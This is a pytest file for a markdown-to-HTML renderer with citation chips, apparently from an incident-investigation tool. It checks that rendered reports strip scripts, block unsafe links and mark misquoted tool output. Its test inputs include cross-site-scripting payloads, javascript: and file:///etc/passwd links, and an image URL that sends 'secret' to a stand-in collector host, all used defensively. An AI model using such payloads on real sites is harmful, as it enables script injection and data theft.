import re
from html.parser import HTMLParser

import pytest

from agents.citations import Ref
from investigations.rendering.markdown import (
    CitedTool,
    citation_chips,
    link_citations,
    plain_words,
    render_markdown,
)

TOOLS = {5: CitedTool("pods_get"), 7: CitedTool("query", is_error=True)}


class _Reader(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend(attrs)

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "[go](javascript:alert(1))",
        "[go](java\tscript:alert(1))",
        "[go][x]\n\n[x]: javascript:alert(1)",
        "[go](data:text/html;base64,PHM+)",
        "[go](file:///etc/passwd)",
        "![chart](https://collector.example.net/?q=secret)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "<b style='position:fixed' hx-get='/x' hx-trigger='load'>x</b>",
        '[a](https://example.com/"onmouseover="alert(1))',
        "<style>*{display:none}</style>",
        "```html\n<script>alert(1)</script>\n```",
    ],
)
def test_nothing_runs_loads_or_restyles(text):
    page = _Reader(render_markdown(text))

    assert not {"script", "img", "svg", "style", "iframe", "b"} & set(page.tags)
    assert {name for name, _ in page.attributes} <= {"href", "class", "rel", "start"}
    assert all(
        value.startswith(("http://", "https://", "mailto:"))
        for name, value in page.attributes
        if name == "href"
    )


def test_raw_html_is_shown_as_the_text_it_is():
    assert "<script>alert(1)</script>" in _Reader(render_markdown("<script>alert(1)</script>")).text


def test_a_line_in_plain_words_has_no_markup_and_keeps_what_only_looks_like_it():
    line = r"The pod `shop/cart_1` has **no** memory: \{a\_b\}, 3 \* 4 and <b>, see `\{x\}`."

    said = plain_words(line)

    assert said == r"The pod shop/cart_1 has no memory: {a_b}, 3 * 4 and <b>, see \{x\}."
    assert plain_words("") == ""


def test_an_image_is_named_and_not_loaded():
    text = _Reader(render_markdown("![chart](https://collector.example.net/c.png)")).text

    assert text.strip() == "chart (image at collector.example.net, not loaded)"


def test_a_link_that_names_another_host_says_where_it_goes():
    text = _Reader(render_markdown("[github.com/acme](https://evil.example.net/login)")).text

    assert "goes to evil.example.net" in text


def test_a_link_that_names_its_own_host_is_left_alone():
    assert "goes to" not in render_markdown("https://example.com/a")


def test_report_structure_survives():
    page = _Reader(render_markdown("## Head\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |"))

    assert {"h2", "ol", "li", "table", "th", "td"} <= set(page.tags)


def test_code_is_coloured_by_class():
    assert 'class="hl-' in render_markdown("```python\nimport os\n```")


def test_text_beyond_the_limit_is_left_out_and_that_is_said():
    html = render_markdown("word " * 40_000)

    assert len(html) < 70_000
    assert "Only the first 64 kB are shown, of 195 kB." in html


@pytest.mark.parametrize("unit", ["![a](", "*_", "> ", "1. ", "[", "`", "**a "])
def test_hostile_repetition_comes_back(unit):
    assert render_markdown(unit * 20_000)


def test_a_citation_becomes_a_chip_that_names_the_tool():
    html = link_citations(render_markdown("Killed [T5]."), TOOLS)

    assert 'href="#T5"' in html
    assert "pods_get" in html


def test_several_citations_in_one_bracket_become_several_chips():
    html = link_citations(render_markdown("Killed [T5, T7]."), TOOLS)

    assert 'href="#T5"' in html
    assert "t-ev--bad" in html


def test_a_second_quote_of_a_call_does_not_name_it_again():
    html = citation_chips([Ref(5, "a"), Ref(5, "b"), Ref(7), Ref(5, "c")], TOOLS)

    assert [re.sub(r"<.*?>", "", each) for each in html.split("</a>")] == [
        f"T5 {TOOLS[5].tool_name}", "T5", f"T7 {TOOLS[7].tool_name}", f"T5 {TOOLS[5].tool_name}",
        "",
    ]  # fmt: skip
    assert f'data-quote="b" title="{TOOLS[5].tool_name}: b"' in html


QUOTES = [
    "restarts: 14",
    '<script>alert("x")</script> & co',
    "*bold* _it_ `code` [a](http://evil.example.net) www.example.org",
    "a | b",
    "[MASKED:github_token#3]",
    r"{\"a\": [1]}",
    "\u2e220\u2e23",
    "\u202e hidden",
]


@pytest.mark.parametrize("quote", QUOTES)
@pytest.mark.parametrize(
    "text", ['Killed [T5 "{}"].', '- one [T5 "{}"]', '| a |\n|---|\n| x [T5 "{}"] |']
)
def test_a_citation_with_a_quote_becomes_a_chip_that_carries_it(text, quote):
    html = link_citations(render_markdown(text.format(quote)), TOOLS)
    page = _Reader(html)

    assert html.count('href="#T5" data-quote=') == 1
    assert not {"script", "em", "strong", "code"} & set(page.tags)
    assert "evil.example.net<" not in html
    assert "%E2%B8%A2" not in html


def test_a_chip_looks_for_its_quote_as_it_was_written_and_shows_what_has_no_shape():
    quote = "a\u202eb\u200bc"
    html = link_citations(render_markdown(f'x\u202ey [T5 "{quote}"].'), TOOLS)

    assert f'data-quote="{quote}"' in html
    assert "x[U+202E]y" in html
    assert f"{quote}" not in html.replace(f'data-quote="{quote}"', "")


def test_a_quote_in_code_or_in_a_link_stays_what_it_is():
    text = '`[T5 "a"]`\n\n    [T5 "b"]\n\n[see](http://x.example/[T5%20"c"])\n\n[at [T5 "d"]](http://y.example)'
    html = link_citations(render_markdown(text), TOOLS)

    assert "data-quote" not in html
    assert "[T5 &quot;b&quot;]" in html


def test_a_quote_that_is_not_there_says_so_on_its_chip():
    tools = {5: CitedTool("pods_get", misquoted=frozenset(["restarts 3"]))}
    html = link_citations(render_markdown('It has 3 [T5 "restarts 3"] [T5 "up"].'), tools)

    assert 'class="t-ev t-ev--not"' in html
    assert "pods_get does not say: restarts 3" in html
    assert 'class="t-ev t-ev--said"' in html


def test_a_citation_of_no_tool_call_is_marked_and_no_link():
    html = link_citations(render_markdown("Killed [T99]."), TOOLS)

    assert "#T99" not in html
    assert "no such call" in html


def test_citations_in_code_stay_code():
    html = link_citations(render_markdown("`[T5]` and\n\n```\n[T5]\n```"), TOOLS)

    assert "href" not in html


def test_a_citation_cannot_be_given_an_address_of_its_own():
    text = "Killed [T5].\n\n[T5]: https://evil.example.net"
    html = link_citations(render_markdown(text), TOOLS)

    assert 'href="#T5"' in html
    assert 'href="https://evil.example.net">T5' not in html


def test_a_tool_name_with_markup_stays_text_in_its_chip():
    tools = {5: CitedTool('x"><script>alert(1)</script>')}
    page = _Reader(link_citations("<p>[T5]</p>", tools))

    assert "script" not in page.tags


def test_an_address_is_a_link_and_a_word_with_a_dot_is_not():
    html = render_markdown("verified: data.is_well is true, see https://a.example/b and shop.io")

    assert re.findall(r'<a href="([^"]*)"', html) == ["https://a.example/b"]


@pytest.mark.parametrize("mark", [":", ";", ",", ":**", ".", "::"])
def test_punctuation_behind_an_address_is_the_sentences(mark):
    address = "https://127.0.0.1:36753/healthz"

    html = render_markdown(f"Asked {address}{mark} it answers, as does {address}{mark}")

    assert re.findall(r'<a href="([^"]*)"[^>]*>([^<]*)</a>', html) == [(address, address)] * 2
    assert html.count(f"</a>{mark}") == 2


def test_punctuation_within_an_address_stays_in_it():
    html = render_markdown("See https://a.example:80/b:c;d,e/f and more")

    assert re.findall(r'<a href="([^"]*)"', html) == ["https://a.example:80/b:c;d,e/f"]
